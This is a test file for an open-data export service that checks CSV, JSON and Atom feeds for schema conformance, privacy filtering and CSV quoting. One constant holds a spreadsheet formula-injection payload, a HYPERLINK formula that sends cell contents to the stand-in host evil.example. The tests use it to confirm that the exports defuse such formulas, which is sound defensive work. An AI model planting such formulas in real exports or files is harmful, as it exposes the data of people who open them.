import { DOMParser, onWarningStopParsing } from '@xmldom/xmldom';
import { org } from '../partnerships/partnership-api';
import { launchProject, postCall, postUpdate } from '../partnerships/partnership-api';
import { startTestApi, type TestApi } from '../authorization/harness';
import { download, EXPORT_NAMES } from './open-data-client';

const ATOM = 'http://www.w3.org/2005/Atom';
const PUBLIC_URL = 'https://partners.example.org/pfp';
/** What a spreadsheet would run as a formula, and what RFC 4180 must quote. */
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const TRICKY = 'Line one, with a comma\r\nand "quotes"; a semicolon — and Arabic: تدريب';

/** Open data over real HTTP: public things only, CSV that no spreadsheet runs, JSON that matches its schema. */
describe('Open data exports', () => {
  let api: TestApi;
  let mexico: string;
  let iom: string;
  let publicCall: string;
  let pendingCall: string;
  let publicProject: string;
  let partnersProject: string;

  beforeAll(async () => {
    api = await startTestApi({ PUBLIC_URL: `${PUBLIC_URL}/` });
    [mexico, iom] = await Promise.all([api.signInAsDemo('mx'), api.signInAsDemo('iom')]);
    publicCall = await postCall(api, mexico, { title: FORMULA_TITLE, description: TRICKY, deadline: '2099-01-31T00:00:00.000Z' });
    pendingCall = await postCall(api, mexico, { title: 'Co-posted, waiting for Germany', coPosterIds: [org('de')] });
    publicProject = await launchProject(api, mexico, { title: '+Public project', summary: '@summary', countries: ['MEX'] });
    await postUpdate(api, mexico, publicProject, '-70 officials trained', [{ indicator: 'Officials trained', value: 70, unit: 'people' }]);
    partnersProject = await launchProject(api, mexico, {
      title: 'Secret partners-only project',
      visibility: 'PARTNERS',
      partners: [{ organizationId: org('iom'), role: 'PARTNER' }],
    });
    await postUpdate(api, iom, partnersProject, 'Secret partners-only update', [{ indicator: 'Secret indicator', value: 3 }]);
  }, 120_000);
  afterAll(() => api?.close());

  it('lists every export in /export/index.json, with links on PUBLIC_URL', async () => {
    const index = (await (await fetch(new URL('/export/index.json', api.url))).json()) as { exports: Array<{ name: string; csv: string; schema: string }> };
    expect(index.exports.map((e) => e.name)).toEqual([...EXPORT_NAMES]);
    expect(index.exports[0].csv).toBe(`${PUBLIC_URL}/export/calls.csv`);
    expect(index.exports[0].schema).toBe(`${PUBLIC_URL}/export/calls.schema.json`);
  });

  it.each(EXPORT_NAMES)('%s: CSV and JSON hold the same records, the JSON matches its schema, the CSV columns are the schema’s', async (name) => {
    const { csv, json, schema } = await download(api.url, name);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="${name}.csv"`);
    expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const items = (schema.properties as Record<string, { items: { properties: Record<string, unknown> } }>)[name].items.properties;
    expect(csv.header).toEqual(Object.keys(items));
    expect(csv.records.map((r) => r.id)).toEqual(json.records.map((r) => r.id));
    expect(json.records.length).toBeGreaterThan(0);
    expect(json.body.schema).toBe(`${PUBLIC_URL}/export/${name}.schema.json`);
  });

  it('calls: a formula is defused, text survives RFC 4180 quoting, a PENDING call is not open data', async () => {
    const { csv, json } = await download(api.url, 'calls');
    const row = csv.records.find((r) => r.id === publicCall)!;
    expect(row.title).toBe(`'${FORMULA_TITLE}`);
    expect(row.description).toBe(TRICKY);
    expect(row.status).toBe('OPEN');
    expect(row.posterIds).toBe(org('mx'));
    expect(row.deadline).toBe('2099-01-31T00:00:00.000Z');
    const record = json.records.find((r) => r.id === publicCall)!;
    expect(record.title).toBe(FORMULA_TITLE);
    expect(record.themes).toEqual([]);
    expect(csv.records.some((r) => r.id === pendingCall)).toBe(false);
    expect(json.records.some((r) => r.id === pendingCall)).toBe(false);
    for (const r of csv.records) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('projects and updates: PARTNERS-only projects and their updates never appear, metrics come with units', async () => {
    const projects = await download(api.url, 'projects');
    const updates = await download(api.url, 'project-updates');
    for (const text of [projects.csv.text, updates.csv.text, JSON.stringify(projects.json.body), JSON.stringify(updates.json.body)]) {
      expect(text).not.toContain(partnersProject);
      expect(text).not.toContain('Secret');
    }
    const row = projects.csv.records.find((r) => r.id === publicProject)!;
    expect(row.title).toBe("'+Public project");
    expect(row.summary).toBe("'@summary");
    expect(row.leadOrganizationId).toBe(org('mx'));
    expect(JSON.parse(row.partners)).toEqual([expect.objectContaining({ organizationId: org('mx'), role: 'LEAD' })]);
    const update = updates.json.records.find((r) => r.projectId === publicProject)!;
    expect(update).toMatchObject({ text: '-70 officials trained', metrics: [{ indicator: 'Officials trained', value: 70, unit: 'people' }] });
    const csvUpdate = updates.csv.records.find((r) => r.projectId === publicProject)!;
    expect(csvUpdate.text).toBe("'-70 officials trained");
    expect(JSON.parse(csvUpdate.metrics)).toEqual([{ indicator: 'Officials trained', value: 70, unit: 'people' }]);
  });

  it('organisations: public fields only, no person and no e-mail address', async () => {
    const { csv, json } = await download(api.url, 'organizations');
    expect(csv.header).toEqual(['id', 'name', 'kind', 'country', 'active', 'createdAt', 'deactivatedAt']);
    expect(json.records.find((r) => r.id === org('mx'))).toMatchObject({ kind: 'STATE', country: 'MEX', active: true });
    expect(csv.text).not.toMatch(/@[a-z0-9-]+\.[a-z]/i);
  });

  it('streams a few thousand rows in pages: chunked, every row there once, in id order', async () => {
    await api.dataSource.query(
      `INSERT INTO organizations (id, kind, name, country, created_at)
       SELECT gen_random_uuid(), 'CIVIL_SOCIETY', '=Bulk organisation ' || n, NULL, now() FROM generate_series(1, 3000) AS n`,
    );
    const total = await api.count('SELECT count(*) FROM organizations');
    const response = await fetch(new URL('/export/organizations.csv', api.url));
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    expect(response.headers.get('content-length')).toBeNull();
    const { csv, json } = await download(api.url, 'organizations');
    expect(csv.records).toHaveLength(total);
    expect(json.records).toHaveLength(total);
    const ids = json.records.map((r) => (r.id as string).slice('organization-'.length));
    expect(new Set(ids).size).toBe(total);
    expect([...ids].sort()).toEqual(ids);
    expect(csv.records.filter((r) => r.name.startsWith("'=Bulk organisation "))).toHaveLength(3000);
  }, 60_000);

  it('an unknown export is a 404', async () => {
    expect((await fetch(new URL('/export/nothing.csv', api.url))).status).toBe(404);
  });

  it('practices: a JSON Schema like the others, every column described, the demo practices with their assessment and never a contact', async () => {
    const { csv, json, schema } = await download(api.url, 'practices');
    expect(schema.$id).toBe(`${PUBLIC_URL}/export/practices.schema.json`);
    const items = (schema.properties as Record<string, { items: { properties: Record<string, { description?: string }> } }>).practices.items.properties;
    expect(Object.entries(items).filter(([, column]) => !column.description?.trim())).toEqual([]);
    expect(Object.keys(items)).toEqual(expect.arrayContaining(['id', 'title', 'countries', 'results', 'resources', 'assessmentStatus', 'criteriaAnswers']));
    expect(json.records.map((r) => r.title)).toContain('Prague Process');
    expect(json.records.every((r) => typeof r.assessment === 'string')).toBe(true);
    // in id order, as the other exports
    const ids = json.records.map((r) => r.id as string);
    expect([...ids].sort()).toEqual(ids);
    expect(csv.records.map((r) => r.id)).toEqual(ids);
    expect(csv.header.filter((name) => /contact|email/i.test(name))).toEqual([]);
    for (const text of [csv.text, JSON.stringify(json.body)]) expect(text).not.toMatch(/@example\.org/);
    const index = (await (await fetch(new URL('/export/index.json', api.url))).json()) as { exports: Array<{ name: string; columns: unknown[] }> };
    expect(index.exports.find((e) => e.name === 'practices')?.columns).toHaveLength(Object.keys(items).length);
  });

  it('/feeds/calls.atom: open calls with their kind and deadline, links on PUBLIC_URL, no PENDING call', async () => {
    const response = await fetch(new URL('/feeds/calls.atom', api.url));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/atom+xml; charset=utf-8');
    const xml = await response.text();
    const doc = new DOMParser({ onError: onWarningStopParsing }).parseFromString(xml, 'application/xml');
    expect(doc.documentElement?.namespaceURI).toBe(ATOM);
    const entries = Array.from(doc.getElementsByTagNameNS(ATOM, 'entry') as unknown as Iterable<Element>);
    const idOf = (e: Element) => e.getElementsByTagNameNS(ATOM, 'id')[0]?.textContent;
    const entry = entries.find((e) => idOf(e) === `${PUBLIC_URL}/calls/${publicCall}`)!;
    expect(entry.getElementsByTagNameNS(ATOM, 'title')[0]?.textContent).toBe(FORMULA_TITLE);
    expect(entry.getElementsByTagNameNS(ATOM, 'summary')[0]?.textContent).toBe(`TRAINING (deadline 2099-01-31): ${TRICKY.replace('\r\n', '\n')}`);
    expect(entries.some((e) => idOf(e) === `${PUBLIC_URL}/calls/${pendingCall}`)).toBe(false);
    for (const link of Array.from(doc.getElementsByTagNameNS(ATOM, 'link') as unknown as Iterable<Element>)) {
      expect(link.getAttribute('href')).toMatch(/^https:\/\/partners\.example\.org\/pfp\/(calls|feeds\/calls\.atom)/);
    }
    expect(xml).not.toContain('CDATA');
  });
});
